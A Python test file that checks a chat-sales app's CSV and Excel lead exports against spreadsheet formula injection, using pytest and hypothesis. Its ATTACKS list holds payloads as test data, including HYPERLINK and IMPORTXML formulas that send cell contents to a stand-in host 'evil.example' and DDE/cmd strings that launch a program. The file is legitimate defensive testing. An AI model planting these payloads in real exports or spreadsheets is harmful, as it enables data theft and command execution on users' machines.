"""S14, formula injection: what visitors write is taken out to a spreadsheet, which must run none of it."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from chat.models import Message, Site
from personas.models import Persona
from sales import capture, export, ledger
from tests.admin.rows import conversation, say

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '"=1+1',
    '"";=1+1',
    "a;=1+1",
    "a;-1+1;+2",
    'x";=cmd|\' /C calc\'!A0;"',
    "a\r\n=1+1",
    "a\t=1+1",
    "＝1+1",
    "＋1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    "'plain",
    "a;'=1+1",
    "%0A=1+1",
    "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")",
    "{=1+1}",
    ", =1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
RUNS = re.compile(r"[\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]")


def cells(content: bytes, delimiter: str) -> list[str]:
    """What a spreadsheet that splits at `delimiter` puts into its cells."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.fixture
def leads(db: None) -> list[int]:
    """A lead for each attack, in value and quote, in a name of a field, and in the name of the site."""
    robin = Persona.objects.create(name="Robin", greeting="Hello.", disclosure="I am an AI.")
    robin.publish(None)
    site = Site.objects.create(name='=1+1";=2', persona=robin)
    made = []
    for attack in ATTACKS:
        chat = conversation(site)
        say(chat, Message.Role.VISITOR, attack)
        lead = capture.catch_up(chat.pk)
        ledger.add(lead, "need", attack, attack, by="model")
        ledger.add(lead, "=own", attack, "", by="person")
        made.append(lead.pk)
    return made


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_runs(leads: list[int], delimiter: str) -> None:
    content = b"".join(export.csv_lines(leads))
    running = [cell for cell in cells(content, delimiter) if RUNS.match(cell)]
    assert running == []


def test_the_original_comes_back_out_of_a_csv(leads: list[int]) -> None:
    content = b"".join(export.csv_lines(leads)).decode("utf-8-sig")
    heading, *rows = list(csv.reader(io.StringIO(content, newline="")))
    back = [[export.plain(cell) for cell in row] for row in rows]
    assert back == list(export.records(leads, [export.plain(cell) for cell in heading]))


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_every_cell_comes_back_as_it_was(text: str) -> None:
    assert export.plain(export.harmless(text)) == text


@given(st.text(st.sampled_from("=+-@'\"; \t\r\nax"), max_size=12))
def test_no_part_of_a_cell_runs(text: str) -> None:
    parts = re.split(r"[;\t\r\n]", export.harmless(text))
    assert [part for part in parts if RUNS.match(part)] == []


def test_no_cell_of_a_workbook_runs(leads: list[int], tmp_path: Any) -> None:
    path = tmp_path / "leads.xlsx"
    path.write_bytes(b"".join(export.excel(leads)))
    for row in load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "inlineStr"}, cell.value
            assert not RUNS.match(str(cell.value or "")) or cell.quotePrefix


def test_the_original_comes_back_out_of_a_workbook(leads: list[int], tmp_path: Any) -> None:
    path = tmp_path / "leads.xlsx"
    path.write_bytes(b"".join(export.excel(leads)))
    heading, *rows = load_workbook(path).active.iter_rows(values_only=True)
    values = [dict(zip(heading, row, strict=True))["need"] for row in rows]
    assert values == [" ".join(attack.split()) for attack in ATTACKS]
